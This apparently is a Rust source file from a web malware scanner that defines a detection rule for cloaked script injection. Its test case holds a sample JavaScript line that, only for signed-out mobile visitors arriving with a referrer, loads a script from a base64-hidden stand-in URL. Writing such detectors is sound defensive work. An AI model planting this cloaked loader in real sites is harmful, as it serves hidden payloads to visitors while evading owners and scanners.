//! `hidden-script-for-some-visitors`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "hidden-script-for-some-visitors",
    description: "The script loads another script from a URL hidden in its code, but only for some visitors.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ScriptFromHidden]),
        one(&[Atom::Referrer, Atom::Robot, Atom::SignedIn, Atom::BrowserCheck]),
        one(&[Atom::Cookie, Atom::Storage, Atom::Referrer]),
    ],
    within: 200,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(document.cookie.indexOf('logged_in')<0&&/Android|iPhone/.test(navigator.userAgent)&&document.referrer){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jLmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)}",
        ],
        without: &[
            "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jLmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)",
        ],
    },
};
